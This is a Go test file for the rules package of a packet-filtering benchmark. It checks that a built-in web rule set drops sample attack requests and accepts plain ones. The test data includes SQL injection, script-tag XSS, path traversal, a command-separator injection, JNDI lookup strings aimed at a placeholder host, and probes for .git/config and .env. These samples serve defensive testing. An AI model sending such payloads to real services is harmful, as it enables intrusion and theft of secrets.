package rules_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tigerbench/tigerbench/packet"
	"github.com/tigerbench/tigerbench/rules"
)

func open(t testing.TB, spec string) *rules.Set {
	t.Helper()
	set, warnings, err := rules.Open(spec, rules.Options{})
	require.NoError(t, err)
	require.Empty(t, warnings)
	return set
}

// TestBuiltin24 has the shape of the original experiment.
func TestBuiltin24(t *testing.T) {
	set := open(t, "builtin:24")
	assert.Equal(t, 24, set.Len())
	assert.Equal(t, "builtin:24", set.Name())
	assert.True(t, set.KeyOnly())
	assert.True(t, set.DropOnly())
	types, prefixes := map[string]int{}, 0
	for _, r := range set.Rules() {
		if types[r.Type]++; r.Type == "ip_src_in" {
			prefixes += len(r.Values)
		}
	}
	assert.Equal(t, map[string]int{"ip_src_in": 10, "tcp_dst_port": 14}, types)
	assert.Equal(t, 30, prefixes)
}

// TestBuiltinWeb wants attacks dropped by the rule meant for them, and plain requests accepted.
func TestBuiltinWeb(t *testing.T) {
	set := open(t, "builtin:web")
	assert.GreaterOrEqual(t, set.Len(), 100)
	assert.True(t, set.DropOnly())
	assert.Equal(t, packet.NeedHTTP|packet.NeedDNS, set.Needs())
	for _, r := range set.Rules() {
		assert.Equal(t, 7, r.Layer, r.ID)
	}
	const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	evaluate, reference := linear(t, set), oracle(t, set)
	for want, packets := range map[string][]*packet.Packet{
		"sqli-union-select": {http("GET", "/item?id=-1%20UNION%20SELECT%20null"), http("GET", "/item?id=1+union+all+select+1")},
		"sqli-tautology":    {http("GET", "/item?id=1'+or+1=1")},
		"sqli-stacked":      {http("GET", "/item?id=1;DROP%20TABLE%20users")},
		"xss-script-tag":    {http("GET", "/search?q=%3Cscript%3E"), http("GET", "/search?q=<script>")},
		"traversal-plain":   {http("GET", "/view?file=../../etc")},
		"traversal-encoded": {http("GET", "/view?file=..%2f..%2f")},
		"command-separator": {http("GET", "/ping?host=;cat%20/x")},
		"jndi-uri":          {http("GET", "/?x=${jndi:ldap://198.51.100.7/a}")},
		"jndi-user-agent":   {http("GET", "/", "User-Agent", "${jndi:dns://x.test}")},
		"scanner-sqlmap":    {http("GET", "/", "User-Agent", "sqlmap/1.8")},
		"method-debug":      {http("TRACE", "/", "User-Agent", browser)},
		"host-outside":      {http("GET", "/", "Host", "attacker.test")},
		"repository-git":    {http("GET", "/.git/config")},
		"secrets-env":       {http("GET", "/.env")},
		"dns-tunnel-zones":  {dns("abcdef.t.tunnel.test")},
		"dns-many-labels":   {dns("a.b.c.d.e.f.g.h.i.example")},
		"":                  {http("GET", "/docs/union-of-sets", "User-Agent", browser), http("GET", "/news/select-from-our-range", "User-Agent", browser, "Host", "www.example.com"), http("POST", "/login", "User-Agent", browser), dns("www.example.com"), tcp(1, 80)},
	} {
		for _, p := range packets {
			v := evaluate(p)
			assert.Equal(t, reference(p), v)
			got := ""
			if v.Rule != rules.NoRule {
				got = set.Rules()[v.Rule].ID
			}
			assert.Equal(t, want, got, "%+v", p.L7)
		}
	}
}

func TestOpenFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.json")
	require.NoError(t, os.WriteFile(path, []byte(validFile), 0o600))
	assert.Equal(t, 8, open(t, path).Len())
	_, _, err := rules.Open(path+"x", rules.Options{})
	assert.ErrorIs(t, err, os.ErrNotExist)
	assert.ErrorContains(t, err, path+"x")
	_, _, err = rules.Open(t.TempDir(), rules.Options{})
	assert.ErrorContains(t, err, "is a directory")
}

func TestBadSpecs(t *testing.T) {
	for spec, want := range map[string]string{
		"builtin:25":                  "give builtin:24 or builtin:web",
		"synthetic:":                  `"" is no number of rules`,
		"synthetic:-1":                "is no number of rules: give one from 0 to 1000000",
		"synthetic:99999999":          "is no number of rules",
		"synthetic:2,":                `"" is no setting: give cost=DURATION`,
		"synthetic:2,price=1ns":       `"price" is no setting`,
		"synthetic:2,cost=5":          "cost is \"5\": give a duration from 0 to 1s, as in cost=50ns",
		"synthetic:2,cost=2s":         "give a duration from 0 to 1s",
		"synthetic:2,cost=-1ns":       "give a duration from 0 to 1s",
		"synthetic:2,seed=x":          `seed is "x"`,
		"synthetic:2,hit=1.1":         "give a share from 0 to 1",
		"synthetic:2,hit=1e-1":        "give a share from 0 to 1",
		"synthetic:2,hit=0.1,at=end":  `at is "end": give first, middle, last, random`,
		"synthetic:2,at=last":         "give hit=SHARE too",
		"synthetic:0,hit=0.5":         "give at least 1 rule",
		"synthetic:2,seed=1,seed=2":   "seed is given twice",
		"synthetic:2,hit=0,at=random": "there are none",
	} {
		_, _, err := rules.Open(spec, rules.Options{})
		assert.ErrorContains(t, err, want, spec)
		assert.ErrorContains(t, err, spec)
	}
}
